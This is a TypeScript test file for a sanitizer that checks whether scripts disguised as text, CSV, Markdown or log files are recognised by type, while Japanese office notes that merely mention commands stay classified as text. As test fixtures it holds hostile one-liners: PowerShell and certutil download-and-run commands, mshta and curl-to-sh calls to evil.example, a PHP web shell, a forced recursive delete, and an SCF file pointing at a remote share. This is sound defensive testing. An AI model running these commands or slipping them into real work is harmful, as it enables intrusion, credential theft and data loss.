/** Scripts under the name of a text (threats.md §3.7), and texts that only speak of commands. */
import assert from 'node:assert/strict'
import { type KnownKey, known } from '../../../sanitizer/formats/known.ts'
import { identify } from '../../../sanitizer/identify.ts'
import { defaultLimits } from '../../../sanitizer/limits.ts'

const lines = (...rows: readonly string[]): string => `${rows.join('\r\n')}\r\n`
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le')

const scripts: readonly (readonly [type: KnownKey, what: string, text: string])[] = [
  ['powershell', 'a variable first', '$c = New-Object Net.WebClient\r\n$c.DownloadFile("http://evil.example/a","a.exe")\r\n'],
  ['powershell', 'behind comments', lines('# 年度更新の手順', '# 担当: 総務課', '$path = "C:\\x"', 'Remove-Item $path -Recurse -Force')],
  [
    'powershell',
    'functions',
    lines('function Get-It {', '  param($u)', '  Invoke-WebRequest $u -OutFile a.exe', '}', 'Get-It "http://evil.example"'),
  ],
  [
    'powershell',
    'one line that downloads and runs',
    'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')"',
  ],
  ['powershell', 'one line in base64', `powershell.exe -enc ${'QQBBAEEAQQ'.repeat(4)}==`],
  ['powershell', 'one line that starts an HTA', 'mshta http://evil.example/a.hta'],
  ['batch', 'echo off', lines('@echo off', 'calc.exe')],
  [
    'batch',
    'behind remarks',
    lines('rem 起動用', 'rem 2026', 'set A=%TEMP%\\a.exe', 'certutil -urlcache -f http://evil.example/a %A%', 'start "" %A%'),
  ],
  ['batch', 'labels and jumps', lines(':loop', 'ping -n 2 localhost > nul', 'taskkill /f /im x.exe', 'goto loop')],
  ['batch', 'two commands', lines('cd %TEMP%', 'rundll32 a.dll,Start')],
  ['windows-script', 'VBScript', lines('Set s = CreateObject("WScript.Shell")', 's.Run "calc"')],
  [
    'windows-script',
    'VBScript behind comments',
    lines("' 集計", "' 総務課", 'Dim s', 'Set s = CreateObject("WScript.Shell")', 's.Run "calc", 0, False'),
  ],
  [
    'windows-script',
    'VBScript with functions',
    lines('Function A(x)', '  A = x & "1"', 'End Function', 'x = A("2")', 'Execute GetObject("script:http://evil.example/")'),
  ],
  ['javascript', 'JScript', lines('var s = new ActiveXObject("WScript.Shell");', 's.Run("calc");')],
  ['javascript', 'JScript behind comments', lines('// 集計', '/* 総務課 */', 's = new ActiveXObject("WScript.Shell");', 's.Run("calc");')],
  ['javascript', 'a function at once', '(function(){ eval(atob("YQ==")) })()'],
  ['hta', 'HTA', '<html><head><HTA:APPLICATION ID=x></head><script>x</script></html>'],
  ['html', 'script alone', '<script>location="http://evil.example"</script>'],
  ['shell-script', 'shebang', '#!/bin/sh\ncurl http://evil.example | sh\n'],
  ['shell-script', 'shebang behind blank lines', '\n\n  #!/usr/bin/env python3\nimport os\n'],
  ['python', 'Python', 'import os\nimport sys\n\nos.system("calc")\n'],
  ['perl', 'PHP', '<?php system($_GET["c"]);'],
  ['perl', 'ASP', '<%@ Language=VBScript %><% Response.Write 1 %>'],
  ['registry', 'registry', lines('Windows Registry Editor Version 5.00', '', '[HKEY_CURRENT_USER\\Software\\x]', '"a"="b"')],
  ['url', 'shortcut behind a comment', lines('; 庁内リンク', '[InternetShortcut]', 'URL=file://evil.example/a')],
  ['scf', 'SCF', lines('[Shell]', 'Command=2', 'IconFile=\\\\evil.example\\a.ico')],
  ['mht', 'MHT', lines('MIME-Version: 1.0', 'Content-Type: multipart/related; boundary=x', '', '--x')],
]

/** Texts of an office that speak of commands, quote them or look a little like them. */
const prose: readonly (readonly [fileName: string, text: string])[] = [
  [
    '手順.txt',
    lines(
      '1. コマンドプロンプトを開きます。',
      '2. 次のように入力します。',
      '   net use Z: \\\\sv01\\共有',
      '   powershell -ExecutionPolicy Bypass -File x.ps1',
      '3. 終わったら画面を閉じます。',
    ),
  ],
  [
    '手順.md',
    '# 設定\n\n```powershell\n$x = New-Object Net.WebClient\nSet-ExecutionPolicy RemoteSigned\n```\n\n上のとおり実行してください。\n',
  ],
  ['README.md', '# Tool\n\nRun it:\n\n```sh\n#!/bin/sh\ncurl https://ok.example/install | sh\n```\n'],
  [
    'a.log',
    lines(
      '2026-04-01 09:00:00 INFO powershell.exe -enc started',
      '2026-04-01 09:00:01 WARN cmd /c failed',
      '2026-04-01 09:00:02 INFO %TEMP% cleaned',
    ),
  ],
  ['関数.csv', lines('name,function,note', 'sum,function(a) { return a },合計', 'if,IF(A1>1),条件')],
  ['一覧.csv', lines('set,start,call', '1,2,3')],
  ['memo.txt', lines('Set menu', 'Call Mr. Tanaka', 'Start 10:00', 'Copy the documents', 'Move desks')],
  ['memo.txt', lines('import goods from abroad', 'from April on', 'for everybody')],
  ['memo.txt', lines('Dim light in the hall.', 'Set the chairs.', 'For each guest one.')],
  ['memo.txt', lines('If you call, ask for Ms. Sato.', 'Next week we move.', 'End of March.')],
  ['README.md', 'Introduction\n============\n\nIt does things.\n\nimport os\nimport sys\n\nprint(os.name)\n'],
  ['価格.txt', lines('$100 = 15,000円', '$200 = 30,000円')],
  ['議事録.txt', lines("'26年度 事業計画", '', '・予算案について', '・Set 数の見直し', '・CreateObject という語の説明')],
  ['設定.txt', lines('[General]', 'name=避難所', '[Version]', 'number=2')],
  ['設定.yaml', 'steps:\n  - run: powershell -File a.ps1\n  - run: del /q a.txt\n'],
  ['a.json', '{"script":"$x = New-Object Net.WebClient","run":"cmd /c calc"}'],
  ['式.txt', lines('x = 1', 'y = 2', 'z = x + y')],
  ['SQL.txt', lines('select * from t;', 'update t set a = 1;')],
  ['箇条書き.txt', lines("' 印は対象外", "' 印がないものは対象")],
  ['注記.txt', lines('# 1 受付', '# 2 審査', '# 3 交付')],
  ['ファイル一覧.txt', lines('C:\\Users\\a\\start.bat', 'C:\\Users\\a\\cmd.exe', 'C:\\Users\\a\\powershell.exe')],
]

describe('scripts under the name of a text', () => {
  for (const [type, what, text] of scripts) {
    it(`${type}: ${what}`, async () => {
      for (const bytes of [Buffer.from(text), Buffer.from(`\ufeff${text}`), utf16(text), Buffer.from(`${'\r\n'.repeat(5000)}${text}`)]) {
        for (const name of ['メモ.txt', '一覧.csv', '手順.md', 'a.log']) {
          const identity = await identify(bytes, name, defaultLimits)
          assert.equal(identity.type, type, name)
        }
      }
      assert.ok(type === 'html' || !('format' in known[type]))
    })
  }
})

describe('texts that speak of commands', () => {
  for (const [name, text] of prose) {
    it(`${name}: ${text.split('\r\n', 1)[0]?.slice(0, 30)}`, async () => {
      const identity = await identify(Buffer.from(text), name, defaultLimits)
      assert.deepEqual([identity.family, identity.extensionMatches], ['text', true], identity.type)
    })
  }
})
